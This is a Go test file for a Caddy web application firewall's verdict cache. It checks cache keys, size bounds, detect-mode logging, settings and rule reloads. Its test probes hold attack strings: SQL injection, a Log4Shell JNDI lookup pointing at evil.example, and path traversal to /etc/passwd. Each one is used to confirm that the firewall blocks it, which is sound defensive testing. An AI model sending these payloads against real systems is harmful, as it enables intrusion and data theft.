package waf

import (
	"context"
	"crypto/sha256"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/caddyconfig"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"
)

// verdictStats sums the verdict caches of the engines loaded.
func verdictStats() (keys int, hits, misses uint64) {
	engines.Range(func(_, v any) bool {
		if e, ok := v.(sharedEngine); ok && e.verdicts != nil {
			k, h, m := e.verdicts.stats()
			keys, hits, misses = keys+k, hits+h, misses+m
		}
		return true
	})
	return keys, hits, misses
}

// TestVerdictKeyReadsWhatTheEngineReads: the key of a request without a
// body changes with everything inspect hands the engine (the client's
// host, the method, the protocol, each part of the URL, the Host, every
// header's name and each value in its order), and not with what it does
// not (the client's port, the order Go's map gives the header names). A
// request with a body, a Transfer-Encoding or too much material has none.
func TestVerdictKeyReadsWhatTheEngineReads(t *testing.T) {
	base := func() *http.Request {
		r := httptest.NewRequest("GET", "http://api.example/api/items?page=2&sort=name", nil)
		r.RemoteAddr = "192.0.2.7:41000"
		r.Header.Set("User-Agent", "curl/8.5.0")
		r.Header.Set("Authorization", "Bearer abc.def.ghi")
		r.Header["Accept"] = []string{"application/json", "text/plain"}
		return r
	}
	k0, ok := verdictKey(base())
	if !ok {
		t.Fatal("a small GET has no key")
	}
	same := map[string]func(r *http.Request){
		"another port of the same client": func(r *http.Request) { r.RemoteAddr = "192.0.2.7:52000" },
		"nothing changed":                 func(*http.Request) {},
	}
	for name, f := range same {
		r := base()
		f(r)
		if k, ok := verdictKey(r); !ok || k != k0 {
			t.Errorf("%s: another key (%v)", name, ok)
		}
	}
	differs := map[string]func(r *http.Request){
		"client":              func(r *http.Request) { r.RemoteAddr = "192.0.2.8:41000" },
		"method":              func(r *http.Request) { r.Method = "HEAD" },
		"protocol":            func(r *http.Request) { r.Proto = "HTTP/1.0" },
		"path":                func(r *http.Request) { r.URL.Path = "/api/items/" },
		"raw path":            func(r *http.Request) { r.URL.RawPath = "/api/%69tems" },
		"query":               func(r *http.Request) { r.URL.RawQuery = "page=2&sort=name'" },
		"query moved to path": func(r *http.Request) { r.URL.Path, r.URL.RawQuery = "/api/items?page=2&sort=name", "" },
		"force query":         func(r *http.Request) { r.URL.ForceQuery = true },
		"fragment":            func(r *http.Request) { r.URL.Fragment = "x" },
		"URL host":            func(r *http.Request) { r.URL.Host = "evil.example" },
		"scheme":              func(r *http.Request) { r.URL.Scheme = "https" },
		"user":                func(r *http.Request) { r.URL.User = url.User("a") },
		"opaque":              func(r *http.Request) { r.URL.Opaque = "//x/y" },
		"Host":                func(r *http.Request) { r.Host = "api.example:8080" },
		"header value":        func(r *http.Request) { r.Header.Set("User-Agent", "curl/8.5.1") },
		"header name": func(r *http.Request) {
			r.Header["X-User-Agent"] = r.Header["User-Agent"]
			delete(r.Header, "User-Agent")
		},
		"a header added":       func(r *http.Request) { r.Header.Set("X-Forwarded-For", "1' OR '1'='1") },
		"an empty header":      func(r *http.Request) { r.Header["X-Empty"] = []string{} },
		"an empty value":       func(r *http.Request) { r.Header["X-Empty"] = []string{""} },
		"a value added":        func(r *http.Request) { r.Header.Add("Accept", "*/*") },
		"values reordered":     func(r *http.Request) { r.Header["Accept"] = []string{"text/plain", "application/json"} },
		"values joined":        func(r *http.Request) { r.Header["Accept"] = []string{"application/json, text/plain"} },
		"a value split off":    func(r *http.Request) { r.Header["User-Agent"] = []string{"curl/8", ".5.0"} },
		"name and value moved": func(r *http.Request) { r.Header["User-Agentc"] = []string{"url/8.5.0"}; delete(r.Header, "User-Agent") },
	}
	seen := map[[sha256.Size]byte]string{k0: "base"}
	for name, f := range differs {
		r := base()
		f(r)
		k, ok := verdictKey(r)
		if !ok {
			t.Errorf("%s: no key", name)
			continue
		}
		if other, dup := seen[k]; dup {
			t.Errorf("%s: the same key as %s", name, other)
		}
		seen[k] = name
	}
	none := map[string]func(r *http.Request){
		"a body":              func(r *http.Request) { r.ContentLength = 3; r.Body = io.NopCloser(strings.NewReader("a=1")) },
		"a body of length 0":  func(r *http.Request) { r.Body = io.NopCloser(strings.NewReader("a=1")) },
		"a declared length":   func(r *http.Request) { r.ContentLength = 5 },
		"an unknown length":   func(r *http.Request) { r.ContentLength = -1 },
		"a transfer encoding": func(r *http.Request) { r.TransferEncoding = []string{"chunked"} },
		"trailers":            func(r *http.Request) { r.Trailer = http.Header{"X": nil} },
		"9 KiB of headers":    func(r *http.Request) { r.Header.Set("X-Big", strings.Repeat("a", 9<<10)) },
		"100 headers of 90 B": func(r *http.Request) {
			for i := range 100 {
				r.Header.Set(fmt.Sprintf("X-H%d", i), strings.Repeat("b", 90))
			}
		},
	}
	for name, f := range none {
		r := base()
		f(r)
		if _, ok := verdictKey(r); ok {
			t.Errorf("%s: has a key; want none (inspected every time)", name)
		}
	}
}

// TestVerdictCacheBounded: however many distinct requests are let
// through, the cache holds at most two generations of verdictPerShard
// keys per shard, and a key used again and again stays.
func TestVerdictCacheBounded(t *testing.T) {
	c := newVerdictCache()
	hot := sha256.Sum256([]byte("hot"))
	c.remember(&hot)
	const bound = 2 * verdictShards * verdictPerShard
	for i := range 200_000 {
		k := sha256.Sum256(fmt.Appendf(nil, "request %d", i))
		if c.allowed(&k) {
			t.Fatalf("request %d: allowed before it was let through", i)
		}
		c.remember(&k)
		if i%500 == 0 && !c.allowed(&hot) {
			t.Fatalf("after %d others, the key in use was dropped", i)
		}
	}
	keys, hits, misses := c.stats()
	if keys > bound || keys < bound/2 {
		t.Fatalf("%d keys held, want between %d and %d", keys, bound/2, bound)
	}
	if hits != 400 || misses != 200_000 {
		t.Fatalf("%d hits, %d misses; want 400 and 200000", hits, misses)
	}
}

// TestEmptyVerdictCacheCostsLittle: every engine has a cache, on or off
// in its handlers, so an empty one must not cost its largest size (it
// allocated 2.5 MiB of maps up front: a review).
func TestEmptyVerdictCacheCostsLittle(t *testing.T) {
	var m0, m1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m0)
	c := newVerdictCache()
	runtime.ReadMemStats(&m1)
	runtime.KeepAlive(c)
	if got := m1.TotalAlloc - m0.TotalAlloc; got > 64<<10 {
		t.Fatalf("an empty verdict cache allocated %d KiB", got>>10)
	}
}

// TestVerdictCacheThroughCaddy: through a real Caddy with waf at its
// defaults, the same GET again is let through without the engine (a hit);
// a refused request is inspected, and refused, every time; a request that
// differs from a remembered one by an attack in one header or parameter
// is refused; a request with a body is never remembered.
func TestVerdictCacheThroughCaddy(t *testing.T) {
	base, hits := startCaddy(t, "waf")
	get := probe{name: "items", method: "GET", path: "/api/items?page=2&sort=name", header: http.Header{"Authorization": {"Bearer abc.def.ghi"}}}
	_, h0, m0 := verdictStats()
	for i := range 3 {
		if code, _ := send(t, base, get); code != http.StatusOK {
			t.Fatalf("send %d: %d", i, code)
		}
	}
	_, h1, m1 := verdictStats()
	if h1-h0 != 2 || m1-m0 != 1 || *hits != 3 {
		t.Fatalf("the same GET three times: %d hits, %d misses, %d reached the backend; want 2, 1, 3", h1-h0, m1-m0, *hits)
	}
	attacks := []probe{
		{name: "sqli in the query", method: "GET", path: "/api/items?page=2&sort=name'%20OR%20'1'='1'--", header: get.header},
		{name: "an attack header", method: "GET", path: get.path, header: http.Header{"Authorization": {"Bearer abc.def.ghi"}, "X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
		{name: "traversal in the path", method: "GET", path: "/api/items/..%2f..%2f..%2fetc%2fpasswd?page=2&sort=name", header: get.header},
		{name: "the token replaced", method: "GET", path: get.path, header: http.Header{"Authorization": {"Bearer ' OR 1=1--"}}},
	}
	for _, a := range attacks {
		for i := range 2 {
			if code, _ := send(t, base, a); code != http.StatusForbidden {
				t.Errorf("%s, send %d: %d, want 403", a.name, i, code)
			}
		}
	}
	if *hits != 3 {
		t.Fatalf("%d requests reached the backend, want 3", *hits)
	}
	keys0, h2, _ := verdictStats()
	post := probe{name: "post", method: "POST", path: "/api/items", contentType: "application/json", body: `{"name":"widget"}`}
	for range 2 {
		if code, _ := send(t, base, post); code != http.StatusOK {
			t.Fatalf("post: %d", code)
		}
	}
	if keys1, h3, _ := verdictStats(); keys1 != keys0 || h3 != h2 {
		t.Fatalf("a POST with a body changed the cache: keys %d -> %d, hits %d -> %d", keys0, keys1, h2, h3)
	}
}

// TestVerdictCacheDetectModeLogsEachTime: in detect mode, a request that
// would be refused (or is over a limit) is logged each time it comes, not
// remembered; one that would pass is remembered.
func TestVerdictCacheDetectModeLogsEachTime(t *testing.T) {
	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
	defer cancel()
	w := &WAF{Mode: "detect"}
	if err := w.Provision(ctx); err != nil {
		t.Fatal(err)
	}
	defer w.Cleanup()
	core, logs := observer.New(zap.DebugLevel)
	w.logger = zap.New(core)
	next := caddyhttp.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) error { rw.WriteHeader(http.StatusOK); return nil })
	serve := func(target string) {
		req := httptest.NewRequest("GET", target, nil)
		req.Header.Set("User-Agent", "test")
		req.Header.Set("Accept", "*/*")
		rec := httptest.NewRecorder()
		if err := w.ServeHTTP(rec, req, next); err != nil || rec.Code != http.StatusOK {
			t.Fatalf("%s: %v %d", target, err, rec.Code)
		}
	}
	var many strings.Builder
	for i := range defaultMaxArguments + 10 {
		fmt.Fprintf(&many, "&p%d=1", i)
	}
	for range 3 {
		serve("/items?id=" + url.QueryEscape("1' OR '1'='1' --"))
		serve("/items?" + many.String()[1:])
		serve("/items?id=42")
	}
	sqli, limit := 0, 0
	for _, e := range logs.FilterMessage("waf would refuse this request (mode detect)").All() {
		switch ids := fmt.Sprint(e.ContextMap()["rule_ids"]); ids {
		case "[942100]":
			sqli++
		case "[200004 200005]":
			limit++
		default:
			t.Errorf("a would-be refusal of rules %s", ids)
		}
	}
	if sqli != 3 || limit != 3 {
		t.Errorf("in 3 sends each, the injection was logged %d times and the request over max_arguments %d; want 3 and 3", sqli, limit)
	}
	if _, hits, _ := w.verdicts.stats(); hits != 2 {
		t.Errorf("%d hits, want 2 (the request that would pass, sent again twice)", hits)
	}
}

// TestVerdictCacheSettings: on by default, off with extra rules unless
// verdict_cache on says so, off when asked, refused with responses.
func TestVerdictCacheSettings(t *testing.T) {
	dir := t.TempDir()
	rules := filepath.Join(dir, "extra.conf")
	if err := os.WriteFile(rules, []byte("SecRule ARGS:probe \"@streq x\" \"id:10002,phase:2,deny,status:403,log\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	on, off := true, false
	for _, c := range []struct {
		name string
		w    WAF
		want bool
	}{
		{"defaults", WAF{}, true},
		{"rules", WAF{Rules: []string{rules}}, false},
		{"rules and verdict_cache on", WAF{Rules: []string{rules}, VerdictCache: &on}, true},
		{"verdict_cache off", WAF{VerdictCache: &off}, false},
		{"responses", WAF{Responses: true}, false},
		{"crs_only", WAF{CRSOnly: true}, true},
	} {
		ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
		w := c.w
		if err := w.Provision(ctx); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if got := w.verdicts != nil; got != c.want {
			t.Errorf("%s: verdict cache on %v, want %v", c.name, got, c.want)
		}
		_ = w.Cleanup()
		cancel()
	}
	bad := WAF{Paranoia: 1, AnomalyThreshold: 5, Mode: "block", BodyLimit: 1, MaxArguments: 1, Responses: true, VerdictCache: &on}
	if err := bad.Validate(); err == nil || !strings.Contains(err.Error(), "verdict_cache on with responses") {
		t.Errorf("responses with verdict_cache on: %v", err)
	}
	for block, want := range map[string]string{
		"waf {\n\t\tverdict_cache\n\t}":        "verdict_cache takes on or off",
		"waf {\n\t\tverdict_cache maybe\n\t}":  "verdict_cache takes on or off",
		"waf {\n\t\tverdict_cache on on\n\t}":  "verdict_cache takes on or off",
		"waf {\n\t\tverdict_cache off\n\t}":    "",
		"waf {\n\t\tverdict_cache on\n\t}":     "",
		"waf {\n\t\tverdict_cache bogus\n\t}":  "Caddyfile:3",
		"waf {\n\t\tverdict_cache  maybe\n\t}": "Caddyfile:3",
	} {
		cfg := "http://127.0.0.1:1 {\n\t" + block + "\n\trespond ok\n}\n"
		_, _, err := caddyconfig.GetAdapter("caddyfile").Adapt([]byte(cfg), nil)
		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
			t.Errorf("%q: %v, want %q", block, err, want)
		}
	}
}

// TestVerdictCacheFollowsTheRules: a request remembered under one set of
// rules is inspected again under another (an edited rules file, reloaded):
// the verdicts belong to the engine, which the rules name.
func TestVerdictCacheFollowsTheRules(t *testing.T) {
	dir := t.TempDir()
	rules := filepath.Join(dir, "extra.conf")
	write := func(arg string) {
		rule := fmt.Sprintf("SecRule ARGS:probe \"@streq %s\" \"id:10003,phase:2,deny,status:403,log\"\n", arg)
		if err := os.WriteFile(rules, []byte(rule), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("one")
	block := "waf {\n\t\trules " + rules + "\n\t\tverdict_cache on\n\t}"
	base := startCaddyWith(t, block, http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	two := probe{name: "two", method: "GET", path: "/?probe=two"}
	for range 2 {
		if code, _ := send(t, base, two); code != http.StatusOK {
			t.Fatalf("probe=two under the first rules: %d, want 200", code)
		}
	}
	if _, hits, _ := verdictStats(); hits == 0 {
		t.Fatal("probe=two sent twice was not remembered")
	}
	write("two")
	reloadSite(t, strings.TrimPrefix(base, "http://127.0.0.1:"), block)
	if code, _ := send(t, base, two); code != http.StatusForbidden {
		t.Fatalf("after the rules file refused probe=two and a reload, it answered %d, want 403 (a verdict of the old rules was used)", code)
	}
}

// BenchmarkVerdictKey is the cost a request without a body pays for the
// cache on a miss (and all it pays on a hit, with the lookup).
func BenchmarkVerdictKey(b *testing.B) {
	r := httptest.NewRequest("GET", "/api/items?page=2&sort=name", nil)
	r.Header.Set("User-Agent", "Mozilla/5.0")
	r.Header.Set("Accept", "application/json")
	r.Header.Set("Authorization", benchToken)
	c := newVerdictCache()
	b.ReportAllocs()
	for b.Loop() {
		k, ok := verdictKey(r)
		if !ok {
			b.Fatal("no key")
		}
		c.allowed(&k)
	}
}
